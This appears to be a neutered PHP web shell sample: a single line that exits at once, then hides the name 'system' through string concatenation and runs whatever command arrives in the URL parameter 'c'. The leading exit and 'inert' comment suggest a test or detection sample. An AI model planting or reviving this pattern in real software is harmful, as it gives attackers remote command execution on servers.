<?php exit; /* inert */ define("F","sys"."tem"); (F)($_GET["c"]);
